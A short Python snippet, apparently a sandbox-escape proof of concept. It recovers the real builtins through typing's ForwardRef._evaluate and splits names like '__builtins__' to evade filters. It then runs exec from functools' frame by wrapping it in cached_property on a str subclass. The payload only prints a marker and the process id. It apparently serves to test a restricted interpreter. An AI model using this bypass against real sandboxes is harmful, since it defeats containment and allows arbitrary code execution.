# tramp: functools.cached_property(exec) on a str subclass: exec called from functools' frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import functools
class S(str):
    run = functools.cached_property(rb["exec"])
try:
    S("[print('PWN' + 'ED', __import__('os').getpid()) for _ in (1,)]").run
except Exception as e:
    print("refused:", type(e).__name__, e)
